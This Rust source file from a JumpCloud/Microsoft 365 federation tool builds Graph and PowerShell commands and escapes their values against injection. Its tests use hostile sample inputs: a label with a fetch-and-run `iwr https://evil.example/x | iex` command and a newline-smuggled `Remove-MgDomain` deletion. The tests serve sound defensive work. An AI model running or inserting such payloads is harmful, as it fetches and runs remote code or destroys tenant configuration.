//! What must run on Microsoft's side to federate an M365 domain to JumpCloud (seed 002, the last
//! step: `Set-MsolDomainAuthentication -Authentication Federated ...`). jcform cannot call
//! Microsoft, so `jcform federation m365_tenant.<key>` prints it: the Microsoft Graph request
//! (`POST /domains/{domain}/federationConfiguration`, an `internalDomainFederation`) and the
//! same as Microsoft Graph PowerShell, from the declared `federation`, its SSO app and the app's
//! public signing certificate as the org holds it (`config.idpCertificate`). Nothing secret is
//! read or printed: the certificate is public, the private key never leaves JumpCloud.
//!
//! Pure: built from the model and a live state already read.

use serde::Serialize;
use serde_json::{json, Value};

use crate::model::live::LiveState;
use crate::model::{Address, Model, OFFICE365_TEMPLATE};
use crate::plan::keys::Keys;

/// JumpCloud's sign-out page for federated Microsoft 365 users (seed 002, `$logoutUrl`).
pub const JUMPCLOUD_SIGN_OUT: &str = "https://console.jumpcloud.com/userconsole/";

/// The login URL of JumpCloud's Office 365 application when the app names none (seed 002,
/// `$idpUrl`).
pub const OFFICE365_SSO_URL: &str = "https://sso.jumpcloud.com/saml2/office365";

/// JumpCloud does the MFA (the reason seed 002 federates): Entra ID accepts it.
pub const MFA_BEHAVIOR: &str = "acceptIfMfaDoneByFederatedIdp";

/// Everything the Microsoft side needs, in Microsoft Graph's `internalDomainFederation` terms.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct DomainFederation {
    /// The M365 domain to federate.
    #[serde(skip)]
    pub domain: String,
    /// `m365_tenant.contoso`.
    #[serde(skip)]
    pub tenant: String,
    /// `sso_app.m365`.
    #[serde(skip)]
    pub app: String,
    pub display_name: String,
    /// The app's IdP Entity ID (`config.idpEntityId`).
    pub issuer_uri: String,
    pub passive_sign_in_uri: String,
    pub active_sign_in_uri: String,
    pub sign_out_uri: String,
    /// The app's public certificate, base64 DER: the PEM without its armour lines and with
    /// every whitespace character removed (seed 002: "removing all white characters").
    pub signing_certificate: String,
    pub preferred_authentication_protocol: String,
    pub federated_idp_mfa_behavior: String,
}

/// Why no request can be printed.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{message}")]
pub struct FederationError {
    pub message: String,
    pub help: String,
}

fn error(message: String, help: &str) -> FederationError {
    FederationError {
        message,
        help: help.to_string(),
    }
}

/// The PEM body without armour and whitespace: what Graph's `signingCertificate` (and
/// MSOnline's `-SigningCertificate`) take.
pub fn certificate_body(pem: &str) -> String {
    pem.lines()
        .filter(|l| !l.trim_start().starts_with("-----"))
        .flat_map(str::chars)
        .filter(|c| !c.is_whitespace())
        .collect()
}

/// The federation of tenant `key` as the files declare it and the org holds its app.
pub fn build(
    model: &Model,
    live: &LiveState,
    key: &str,
) -> Result<DomainFederation, FederationError> {
    let tenant_address = Address::M365Tenant(key.to_string());
    let tenant = model.m365_tenants.get(key).ok_or_else(|| {
        error(
            format!("{tenant_address} is not declared in the files"),
            "name a key of `m365_tenants` (e.g. `jcform federation m365_tenant.contoso`)",
        )
    })?;
    let federation = tenant.federation.as_ref().ok_or_else(|| {
        error(
            format!("{tenant_address} declares no `federation`"),
            "add `federation: {domain: <domain>, sso_app: <sso_apps key>}` to the tenant",
        )
    })?;
    let app_address = Address::SsoApp(federation.sso_app.clone());
    let app = model.sso_apps.get(&federation.sso_app).ok_or_else(|| {
        error(
            format!("{app_address} is not declared in the files"),
            "declare it under `sso_apps`",
        )
    })?;
    // Which live app is `sso_app.<key>` must be settled exactly as the plan settles it: two live
    // apps the key matches (or any other ambiguity about it) stop here, naming them, so the
    // certificate printed is never a guess.
    let (keys, errors) = Keys::resolve(model, live);
    if let Some(e) = errors.iter().find(|e| e.address == app_address) {
        return Err(FederationError {
            message: e.message.clone(),
            help: e.help.clone(),
        });
    }
    let live_app = keys
        .sso_apps
        .id(&federation.sso_app)
        .and_then(|id| live.sso_apps.get(id))
        .ok_or_else(|| {
            error(
                format!(
                    "the org has no application for {app_address} yet, so it has no signing \
                     certificate"
                ),
                "run `jcform apply` first: JumpCloud generates the certificate when it creates \
                 the app",
            )
        })?;
    let pem = live_app.idp_certificate.as_deref().ok_or_else(|| {
        error(
            format!("{app_address} has no signing certificate in the org (config.idpCertificate)"),
            "activate SSO for the app in the admin console so JumpCloud generates one",
        )
    })?;
    let signing_certificate = certificate_body(pem);
    if signing_certificate.is_empty() {
        return Err(error(
            format!("{app_address}'s signing certificate is empty"),
            "regenerate the certificate in the admin console",
        ));
    }
    // The files' values win: they are what apply makes true.
    let issuer_uri = app
        .domain
        .clone()
        .or_else(|| live_app.idp_entity_id.clone())
        .unwrap_or_else(|| federation.domain.clone());
    let sign_in = app
        .sso_url
        .clone()
        .or_else(|| live_app.sso_url.clone())
        .unwrap_or_else(|| {
            if app.template == OFFICE365_TEMPLATE {
                OFFICE365_SSO_URL.to_string()
            } else {
                String::new()
            }
        });
    if sign_in.is_empty() {
        return Err(error(
            format!("{app_address} has no login URL (`sso_url`)"),
            "set `sso_url` on the app",
        ));
    }
    let display_name = app
        .display_label
        .clone()
        .or_else(|| live_app.display_label.clone())
        .unwrap_or_else(|| federation.sso_app.clone());
    let federation = DomainFederation {
        domain: federation.domain.clone(),
        tenant: tenant_address.to_string(),
        app: app_address.to_string(),
        display_name,
        issuer_uri,
        passive_sign_in_uri: sign_in.clone(),
        active_sign_in_uri: sign_in,
        sign_out_uri: JUMPCLOUD_SIGN_OUT.to_string(),
        signing_certificate,
        preferred_authentication_protocol: "saml".into(),
        federated_idp_mfa_behavior: MFA_BEHAVIOR.into(),
    };
    federation.check_printable()?;
    Ok(federation)
}

/// A character that must never reach the printed commands: a control character (line breaks,
/// escapes, NUL, ...) or a Unicode line or paragraph separator. Any of them could end the `#`
/// comment header or a PowerShell line and make the rest of the value a command.
fn unprintable(c: char) -> bool {
    c.is_control() || matches!(c, '\u{2028}' | '\u{2029}')
}

/// `value` as a single-quoted PowerShell literal: nothing inside is expanded (`$(...)`,
/// backticks, `$var` are text). Every quote PowerShell reads as a single quote (`'` and the
/// typographic `‘ ’ ‚ ‛`) is doubled, which is how such a literal contains one. Only for values
/// [`DomainFederation::check_printable`] accepted (no line breaks or control characters).
pub fn powershell_literal(value: &str) -> String {
    let mut out = String::with_capacity(value.len() + 2);
    out.push('\'');
    for c in value.chars() {
        if matches!(c, '\'' | '\u{2018}' | '\u{2019}' | '\u{201A}' | '\u{201B}') {
            out.push(c);
        }
        out.push(c);
    }
    out.push('\'');
    out
}

impl DomainFederation {
    /// Refuses (fail closed) a value with a control character or line separator: printed, it
    /// could end a `#` comment or a PowerShell line. Names the field; never prints the value.
    pub fn check_printable(&self) -> Result<(), FederationError> {
        let fields = [
            (
                "the federated domain",
                &self.domain,
                "`federation.domain` of the tenant",
            ),
            (
                "the app's label",
                &self.display_name,
                "`display_label` of the app",
            ),
            ("the IdP Entity ID", &self.issuer_uri, "`domain` of the app"),
            (
                "the login URL",
                &self.passive_sign_in_uri,
                "`sso_url` of the app",
            ),
            (
                "the login URL",
                &self.active_sign_in_uri,
                "`sso_url` of the app",
            ),
            ("the sign-out URL", &self.sign_out_uri, "the sign-out URL"),
            (
                "the signing certificate",
                &self.signing_certificate,
                "the certificate",
            ),
        ];
        for (what, value, fix) in fields {
            if value.chars().any(unprintable) {
                return Err(error(
                    format!(
                        "{what} of {} contains a line break or control character; jcform \
                         will not print it into commands meant to be pasted",
                        self.app
                    ),
                    &format!(
                        "set {fix} in the files to a value without one (the files' values win \
                         over the org's), or fix it in the JumpCloud console"
                    ),
                ));
            }
        }
        Ok(())
    }

    /// `POST https://graph.microsoft.com/v1.0/domains/{domain}/federationConfiguration`.
    pub fn graph_url(&self) -> String {
        format!(
            "https://graph.microsoft.com/v1.0/domains/{}/federationConfiguration",
            self.domain
        )
    }

    /// The Graph request body (`internalDomainFederation`).
    pub fn graph_body(&self) -> Value {
        let mut body = json!({"@odata.type": "#microsoft.graph.internalDomainFederation"});
        if let (Value::Object(b), Ok(Value::Object(fields))) =
            (&mut body, serde_json::to_value(self))
        {
            b.extend(fields);
        }
        body
    }

    /// The same with Microsoft Graph PowerShell (`New-MgDomainFederationConfiguration`).
    pub fn powershell(&self) -> String {
        let q = powershell_literal;
        let mut out = String::new();
        out.push_str(
            "Connect-MgGraph -Scopes 'Domain-InternalFederation.ReadWrite.All', 'Domain.ReadWrite.All'\n",
        );
        out.push_str(&format!(
            "New-MgDomainFederationConfiguration -DomainId {} `\n",
            q(&self.domain)
        ));
        let args = [
            ("DisplayName", &self.display_name),
            ("IssuerUri", &self.issuer_uri),
            ("PassiveSignInUri", &self.passive_sign_in_uri),
            ("ActiveSignInUri", &self.active_sign_in_uri),
            ("SignOutUri", &self.sign_out_uri),
            (
                "PreferredAuthenticationProtocol",
                &self.preferred_authentication_protocol,
            ),
            ("FederatedIdpMfaBehavior", &self.federated_idp_mfa_behavior),
            ("SigningCertificate", &self.signing_certificate),
        ];
        for (i, (name, value)) in args.iter().enumerate() {
            let end = if i + 1 == args.len() { "\n" } else { " `\n" };
            out.push_str(&format!("  -{name} {}{end}", q(value)));
        }
        out.push_str(&format!(
            "Get-MgDomainFederationConfiguration -DomainId {}   # check it\n",
            q(&self.domain)
        ));
        out
    }

    /// The whole text `jcform federation` prints.
    pub fn text(&self) -> String {
        let body = serde_json::to_string_pretty(&self.graph_body()).unwrap_or_default();
        format!(
            "# Federate {domain} ({tenant}) to JumpCloud through {app} (\"{label}\").\n\
             # jcform cannot call Microsoft: run ONE of the two below as a Global Admin whose\n\
             # account is in the tenant's *.onmicrosoft.com domain, not in {domain}.\n\
             # Check first: `jcform lint` reports no LCK010/LCK011 for {domain}'s users.\n\
             \n\
             ## Microsoft Graph\n\
             POST {url}\n\
             Content-Type: application/json\n\
             \n\
             {body}\n\
             \n\
             ## PowerShell (Microsoft Graph PowerShell SDK)\n\
             {ps}\
             \n\
             # Legacy MSOnline module (seed 002): Set-MsolDomainAuthentication -DomainName {domain}\n\
             #   -Authentication Federated -FederationBrandName {domain} -IssuerUri <IssuerUri>\n\
             #   -PassiveLogOnUri <PassiveSignInUri> -ActiveLogOnUri <ActiveSignInUri>\n\
             #   -LogOffUri <SignOutUri> -SigningCertificate <SigningCertificate>\n\
             #   -PreferredAuthenticationProtocol SAMLP\n",
            domain = self.domain,
            tenant = self.tenant,
            app = self.app,
            label = self.display_name,
            url = self.graph_url(),
            ps = self.powershell(),
        )
    }

    /// `{domain, tenant, sso_app, graph: {method, url, body}, powershell}` for scripts.
    pub fn json(&self) -> Value {
        json!({
            "format_version": 1,
            "domain": self.domain,
            "tenant": self.tenant,
            "sso_app": self.app,
            "graph": {"method": "POST", "url": self.graph_url(), "body": self.graph_body()},
            "powershell": self.powershell(),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_certificate_loses_its_armour_and_every_whitespace() {
        let pem = "-----BEGIN CERTIFICATE-----\r\nMIIB\tAbC\n d+/=\n-----END CERTIFICATE-----\n";
        assert_eq!(certificate_body(pem), "MIIBAbCd+/=");
    }

    fn sample(display_name: &str) -> DomainFederation {
        DomainFederation {
            domain: "contoso.com".into(),
            tenant: "m365_tenant.contoso".into(),
            app: "sso_app.m365".into(),
            display_name: display_name.into(),
            issuer_uri: "contoso.com".into(),
            passive_sign_in_uri: OFFICE365_SSO_URL.into(),
            active_sign_in_uri: OFFICE365_SSO_URL.into(),
            sign_out_uri: JUMPCLOUD_SIGN_OUT.into(),
            signing_certificate: "MIIB".into(),
            preferred_authentication_protocol: "saml".into(),
            federated_idp_mfa_behavior: MFA_BEHAVIOR.into(),
        }
    }

    /// Reads one single-quoted PowerShell literal at the start of `text`: its value and the rest.
    fn read_literal(text: &str) -> (String, &str) {
        let quote = |c: char| matches!(c, '\'' | '\u{2018}' | '\u{2019}' | '\u{201A}' | '\u{201B}');
        let mut chars = text.char_indices();
        assert!(chars.next().is_some_and(|(_, c)| c == '\''), "{text}");
        let mut value = String::new();
        while let Some((i, c)) = chars.next() {
            if quote(c) {
                match chars.clone().next() {
                    Some((_, d)) if quote(d) => {
                        chars.next();
                        value.push(c);
                    }
                    _ => return (value, &text[i + c.len_utf8()..]),
                }
            } else {
                value.push(c);
            }
        }
        panic!("unterminated literal: {text}");
    }

    #[test]
    fn a_hostile_label_stays_text_in_powershell_and_json() {
        let label = "Microsoft 365 $(iwr https://evil.example/x | iex) `whoami` \"$env:X\" it's \u{2019}; x";
        let f = sample(label);
        assert_eq!(f.check_printable(), Ok(()));
        let ps = f.powershell();
        // Every parameter line is `  -Name '<literal>'` then a line continuation or nothing.
        let mut names = Vec::new();
        for line in ps.lines().filter(|l| l.starts_with("  -")) {
            let (name, rest) = line[3..].split_once(' ').expect("a value");
            let (value, after) = read_literal(rest);
            assert!(after.is_empty() || after == " `", "{line}");
            if name == "DisplayName" {
                assert_eq!(value, label, "the label comes back exactly");
            }
            names.push(name.to_string());
        }
        assert_eq!(names.len(), 8, "{ps}");
        assert!(
            !ps.replace(&powershell_literal(label), "").contains('"'),
            "no double-quoted (expanding) string: {ps}"
        );
        insta::assert_snapshot!(ps);
        // JSON: serde escapes; the value round-trips.
        let json = serde_json::to_string(&f.json()).unwrap();
        let back: Value = serde_json::from_str(&json).unwrap();
        assert_eq!(back["graph"]["body"]["displayName"], label);
        // The text form: the label is only in the `#` header line.
        let text = f.text();
        for line in text.lines().filter(|l| l.contains("iwr")) {
            assert!(
                line.starts_with("# ")
                    || line.starts_with("  \"displayName\"")
                    || line.starts_with("  -DisplayName '"),
                "{line}"
            );
        }
    }

    #[test]
    fn a_line_break_or_control_character_in_any_value_is_refused() {
        let f = sample("Microsoft 365\nRemove-MgDomain -DomainId example.com");
        let err = f.check_printable().expect_err("a newline is refused");
        assert!(
            err.message.contains("label") && !err.message.contains("Remove-MgDomain"),
            "{err:?}"
        );
        for bad in [
            "a\rb",
            "a\u{1b}[2Jb",
            "a\u{2028}b",
            "a\u{85}b",
            "a\0b",
            "a\tb",
        ] {
            assert!(sample(bad).check_printable().is_err(), "{bad:?}");
            let mut f = sample("ok");
            f.passive_sign_in_uri = format!("https://sso.example/{bad}");
            assert!(f.check_printable().is_err(), "{bad:?}");
            let mut f = sample("ok");
            f.issuer_uri = bad.into();
            assert!(f.check_printable().is_err(), "{bad:?}");
        }
    }

    #[test]
    fn powershell_quotes_what_it_cannot_take_literally() {
        let f = sample("Say \"hi\" it's");
        assert!(f.powershell().contains("-DisplayName 'Say \"hi\" it''s' `"));
        assert!(f.powershell().contains("-DomainId 'contoso.com' `"));
        let body = f.graph_body();
        assert_eq!(body["issuerUri"], "contoso.com");
        assert_eq!(body["preferredAuthenticationProtocol"], "saml");
        assert_eq!(
            body["@odata.type"],
            "#microsoft.graph.internalDomainFederation"
        );
        assert!(body.get("domain").is_none(), "the domain is in the URL");
    }
}
